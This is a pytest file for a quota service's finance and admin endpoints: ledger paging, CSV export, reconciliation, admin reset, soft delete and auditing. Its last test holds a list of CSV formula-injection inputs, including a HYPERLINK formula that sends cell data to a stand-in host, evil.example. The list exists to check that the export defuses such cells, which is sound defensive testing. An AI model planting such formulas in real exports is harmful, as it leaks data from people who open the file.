"""Finance endpoints (ledger pages, CSV export, reconciliation, audit) and admin reset/soft delete."""

from __future__ import annotations

import csv
import io

from service.quota import periods

PERIOD = periods.current_period()


def _account(client, keys, account_id="acc_f"):
    assert (
        client.put(f"/v1/accounts/{account_id}", json={"kind": "user"}, headers=keys["product"]).status_code
        == 201
    )


def _take(client, keys, account_id="acc_f", units=1, **extra):
    r = client.post(
        f"/v1/accounts/{account_id}/takes",
        json={"metric": "urls", "units": units, **extra},
        headers=keys["product"],
    )
    assert r.status_code == 201, r.json
    return r.json


def test_ledger_pages_follow_the_cursor_to_the_end(client, keys):
    _account(client, keys)
    ids = [_take(client, keys)["take_id"] for _ in range(5)]
    seen, cursor = [], None
    while True:
        q = {"account_id": "acc_f", "limit": 2, **({"cursor": cursor} if cursor else {})}
        r = client.get("/v1/ledger", query_string=q, headers=keys["finance"])
        assert r.status_code == 200, r.json
        seen += [row["id"] for row in r.json["items"]]
        cursor = r.json["next_cursor"]
        if cursor is None:
            break
    assert seen == ids  # newest last, every row once
    row = client.get("/v1/ledger", query_string={"kind": "take", "limit": 1}, headers=keys["finance"]).json[
        "items"
    ][0]
    assert set(row) == {
        "id",
        "at",
        "account_id",
        "metric",
        "period",
        "kind",
        "units",
        "used_after",
        "limit",
        "take_id",
        "idempotency_key",
        "actor",
        "prev_hash",
        "hash",
        "seq",
        "grant_id",
    }
    assert row["actor"] == "test-product" and row["kind"] == "take" and row["units"] == 1


def test_ledger_refuses_bad_filters_and_wrong_roles(client, keys):
    for q in (
        {"kind": "bogus"},
        {"period": "2026-13"},
        {"limit": 0},
        {"limit": 5000},
        {"cursor": "abc"},
        {"account_id": "bad id!"},
        {"unknown": "x"},
    ):
        r = client.get("/v1/ledger", query_string=q, headers=keys["finance"])
        assert r.status_code == 422, (q, r.json)
        assert r.json["error"] == "validation_failed"
    assert client.get("/v1/ledger", headers=keys["product"]).status_code == 403
    assert client.get("/v1/ledger", headers=keys["admin"]).status_code == 403
    assert client.get("/v1/ledger").status_code == 401
    assert client.get("/v1/audit", headers=keys["admin"]).status_code == 200
    assert client.get("/v1/audit", headers=keys["product"]).status_code == 403


def test_csv_export_streams_the_period(client, keys):
    _account(client, keys)
    t = _take(client, keys, units=3)
    client.post(f"/v1/takes/{t['take_id']}/release", headers=keys["product"])
    r = client.get("/v1/ledger.csv", query_string={"period": PERIOD}, headers=keys["finance"])
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert [(x["kind"], x["units"], x["used_after"]) for x in rows] == [
        ("take", "3", "3"),
        ("release", "3", "0"),
    ]
    assert rows[1]["take_id"] == str(t["take_id"])
    empty = client.get("/v1/ledger.csv", query_string={"period": "2001-01"}, headers=keys["finance"])
    assert empty.get_data(as_text=True).strip().split("\n") == [
        "id,at,account_id,metric,period,kind,units,used_after,limit,take_id,idempotency_key,actor,prev_hash,hash,seq,"
        "grant_id"
    ]
    assert client.get("/v1/ledger.csv", headers=keys["finance"]).status_code == 422


def test_reconciliation_finds_nothing_then_catches_a_tampered_counter(client, keys, conn):
    _account(client, keys)
    for _ in range(3):
        _take(client, keys, units=2)
    r = client.get("/v1/reconciliation", query_string={"period": PERIOD}, headers=keys["finance"])
    assert r.status_code == 200
    assert r.json["period"] == PERIOD and r.json["checked"] >= 1 and r.json["mismatches"] == []
    # A counter moved without a ledger row (as a buggy writer would) is reported.
    conn.execute("UPDATE quotas SET used = used + 1 WHERE account_id = 'acc_f' AND metric = 'urls'")
    r = client.get("/v1/reconciliation", query_string={"period": PERIOD}, headers=keys["finance"])
    assert r.json["mismatches"] == [
        {
            "account_id": "acc_f",
            "metric": "urls",
            "period": PERIOD,
            "counter_used": 7,
            "ledger_used": 6,
            "last_used_after": 6,
        }
    ]


def test_admin_reset_writes_one_row_naming_the_admin(client, keys):
    _account(client, keys)
    _take(client, keys, units=4)
    r = client.post("/v1/admin/accounts/acc_f/reset", json={"metric": "urls"}, headers=keys["admin"])
    assert r.status_code == 200, r.json
    assert r.json["previous"] == 4 and r.json["used"] == 0
    resets = client.get("/v1/ledger", query_string={"kind": "reset"}, headers=keys["finance"]).json["items"]
    assert [(x["units"], x["used_after"], x["actor"]) for x in resets] == [(4, 0, "test-admin")]
    assert client.get("/v1/accounts/acc_f/usage?metric=urls", headers=keys["product"]).json["used"] == 0
    rec = client.get("/v1/reconciliation", query_string={"period": PERIOD}, headers=keys["finance"]).json
    assert rec["mismatches"] == []
    assert (
        client.post(
            "/v1/admin/accounts/acc_f/reset", json={"metric": "nope"}, headers=keys["admin"]
        ).status_code
        == 422
    )
    assert (
        client.post(
            "/v1/admin/accounts/zzz/reset", json={"metric": "urls"}, headers=keys["admin"]
        ).status_code
        == 404
    )
    assert (
        client.post(
            "/v1/admin/accounts/acc_f/reset", json={"metric": "urls"}, headers=keys["product"]
        ).status_code
        == 403
    )


def test_soft_delete_refuses_takes_and_is_audited(client, keys):
    _account(client, keys)
    r = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
    assert r.status_code == 200 and r.json == {"id": "acc_f", "deleted": True}
    r = client.post("/v1/accounts/acc_f/takes", json={"metric": "urls"}, headers=keys["product"])
    assert r.status_code == 410 and r.json["error"] == "account_deleted"
    assert client.get("/v1/admin/accounts/acc_f", headers=keys["admin"]).json["deleted"] is True
    assert (
        client.post(
            "/v1/admin/accounts/acc_f/reset", json={"metric": "urls"}, headers=keys["admin"]
        ).status_code
        == 410
    )
    assert client.delete("/v1/admin/accounts/nobody", headers=keys["admin"]).status_code == 404
    audit = client.get("/v1/audit", query_string={"account_id": "acc_f"}, headers=keys["finance"]).json[
        "items"
    ]
    assert [(a["action"], a["actor"], a["new"]) for a in audit] == [
        ("account_deleted", "test-admin", {"deleted": True})
    ]


def test_deleting_a_deleted_account_again_is_200_and_writes_no_audit_row(client, keys):
    _account(client, keys)
    first = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
    again = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
    assert (
        (again.status_code, again.json)
        == (first.status_code, first.json)
        == (
            200,
            {"id": "acc_f", "deleted": True},
        )
    )
    audit = client.get("/v1/audit", query_string={"account_id": "acc_f"}, headers=keys["finance"]).json
    assert [(a["action"], a["old"], a["new"]) for a in audit["items"]] == [
        ("account_deleted", {"deleted": False}, {"deleted": True})
    ]


HOSTILE_KEYS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign, which some spreadsheets also read as a formula
    "'=already quoted",  # quoted too, so that one leading quote is always ours to strip
    "plain-key",
    'quote " inside',
]
HOSTILE_ACCOUNTS = ["@acc", "-acc", "-1.5", "@SUM.1"]


def _sheet_cells(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_neutralizes_cells_a_spreadsheet_would_read_as_formulas(client, keys):
    for account in HOSTILE_ACCOUNTS:
        _account(client, keys, account)
    for i, key in enumerate(HOSTILE_KEYS):
        _take(client, keys, HOSTILE_ACCOUNTS[i % len(HOSTILE_ACCOUNTS)], idempotency_key=key)
    r = client.get("/v1/ledger.csv", query_string={"period": PERIOD}, headers=keys["finance"])
    rows = _sheet_cells(r.get_data(as_text=True))
    assert sorted(x["idempotency_key"] for x in rows) == sorted(  # the export goes counter by counter
        "'" + k if k[0] in "=+-@\t\r\uff1d'" else k for k in HOSTILE_KEYS
    )
    assert {x["account_id"] for x in rows} == {"'" + a for a in HOSTILE_ACCOUNTS}
    for x in rows:
        for cell in x.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert 'quote " inside' in [x["idempotency_key"] for x in rows]  # the csv module quotes and doubles it
    assert 'quote "" inside' in r.get_data(as_text=True)
